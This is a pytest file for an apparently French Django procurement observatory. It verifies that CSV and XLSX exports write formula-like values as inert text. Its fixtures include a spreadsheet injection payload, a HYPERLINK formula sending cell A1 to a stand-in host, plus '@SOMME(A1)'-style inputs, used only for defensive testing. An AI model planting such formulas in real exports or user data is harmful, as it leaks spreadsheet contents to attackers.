"""No export hands a spreadsheet a formula to run: DECP text and visitors' names that start
like a formula come out as text, numbers stay numbers (issue 15, item 5)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apure.observatory import store_query
from tests.factories import FacilitatorFactory
from tests.network.factories import EventFactory, RegistrationFactory
from tests.observatory import store_builder

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://exemple.invalid/?vol="&A1;"Cliquez ici")'
BUYER = "21590350100017"
PLAIN_UID = f"{BUYER}/2024-PLAIN"


def _store(settings):
    common = {"buyer_siret": BUYER, "buyer_kind": "commune", "buyer_region": "32",
              "region": "32", "buyer_departement": "59", "departement": "59",
              "notification_date": "2024-03-01"}  # fmt: skip
    rows = [
        {**common, "contract_id": "2024-EVIL", "object": HYPERLINK, "buyer_name": "@SOMME(A1)",
         "procedure": "+33 1 23 45 67 89", "amount": 300_000.0},
        {**common, "contract_id": "2024-PLAIN", "object": "Nettoyage", "buyer_name": "@SOMME(A1)",
         "procedure": "-", "amount": -1500.0, "amount_published": -1500.0},
    ]  # fmt: skip
    store_builder.build(settings.ANALYTICS_DB_PATH, rows)
    store_query.clear_cache()


def _download(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _csv(response):
    text = _download(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _sheet(response):
    return load_workbook(io.BytesIO(_download(response))).active


def _is_inert_text(cell, text):
    """Text cell showing `text`, kept text by an apostrophe typed before it or its style."""
    return cell.data_type == "s" and (
        cell.value == f"'{text}" or (cell.value == text and cell.quotePrefix)
    )


CONTRACT_QUERY = "region=&" + "&".join(
    f"colonne={column}" for column in ("uid", "object", "buyer_name", "procedure", "amount")
)


def test_contract_csv_writes_formula_like_text_as_text_and_numbers_as_numbers(
    client, settings, empty_store
):
    _store(settings)
    header, *rows = _csv(client.get(f"/observatoire/marches/export.csv?{CONTRACT_QUERY}"))
    by_uid = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    evil = by_uid[f"{BUYER}/2024-EVIL"]
    assert evil["Objet"] == f"'{HYPERLINK}"
    assert evil["Acheteur"] == "'@SOMME(A1)"
    assert evil["Procédure"] == "'+33 1 23 45 67 89"
    plain = by_uid[PLAIN_UID]
    assert plain["Procédure"] == "'-"
    assert plain["Montant actuel (€ HT)"] == "-1500"  # a negative amount stays a number


def test_contract_xlsx_writes_formula_like_text_as_text_and_numbers_as_numbers(
    client, settings, empty_store
):
    _store(settings)
    sheet = _sheet(client.get(f"/observatoire/marches/export.xlsx?{CONTRACT_QUERY}"))
    header = [cell.value for cell in sheet[1]]
    by_uid = {
        row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)
    }
    evil = by_uid[f"{BUYER}/2024-EVIL"]
    assert _is_inert_text(evil["Objet"], HYPERLINK)
    assert _is_inert_text(evil["Acheteur"], "@SOMME(A1)")
    assert _is_inert_text(evil["Procédure"], "+33 1 23 45 67 89")
    amount = by_uid[PLAIN_UID]["Montant actuel (€ HT)"]
    assert amount.data_type == "n" and amount.value == -1500
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_indicator_exports_write_buyer_names_as_text(client, settings, empty_store):
    _store(settings)
    url = f"/observatoire/indicateurs/estimation_spaser.{{}}?region=&acheteur={BUYER}"
    rows = _csv(client.get(url.format("csv")))
    name = rows[0].index("Acheteur")
    assert {row[name] for row in rows[1:]} == {"'@SOMME(A1)"}

    sheet = _sheet(client.get(url.format("xlsx")))
    name = [cell.value for cell in sheet[1]].index("Acheteur")
    cells = [row[name] for row in sheet.iter_rows(min_row=2)]
    assert cells and all(_is_inert_text(cell, "@SOMME(A1)") for cell in cells)


def test_registrants_csv_writes_a_visitor_formula_as_text(client):
    event = EventFactory()
    RegistrationFactory(event=event, name=HYPERLINK, organisation_name="-2+3")
    client.force_login(FacilitatorFactory())
    rows = _csv_text(client.get(reverse("network:event_registrants_csv", args=[event.slug])))
    assert rows[1][0] == f"'{HYPERLINK}"
    assert rows[1][2] == "'-2+3"


def _csv_text(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
